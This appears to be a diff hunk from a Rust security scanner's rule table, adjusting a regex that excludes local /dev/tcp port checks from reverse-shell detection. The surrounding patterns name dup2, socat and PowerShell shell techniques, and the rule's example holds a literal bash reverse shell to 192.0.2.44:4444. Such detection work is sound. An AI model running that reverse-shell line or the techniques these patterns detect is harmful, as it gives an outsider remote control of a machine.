@@ -175,7 +175,7 @@ pub(super) const RULES: &[Rule] = &[
                 r"dup2\s*\(\s*(s|sock\w*|conn\w*|client\w*)\.fileno\(\)|socat\s+.{0,80}exec:\S*(sh|bash)|net\.sockets\.tcpclient\(.{0,400}(iex|invoke-expression)",
             ],
             // Scripts also wait for a port like this.
-            r"exec\s+\d*<>\s*/dev/tcp/(localhost|127\.|[$\x22{])",
+            r"exec\s+\d*<>\s*/dev/tcp/((localhost|127(\.\d+){3})/|[$\x22{])",
         )),
         example: example("scripts/run.sh", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.44/4444 0>&1\n"),
     },
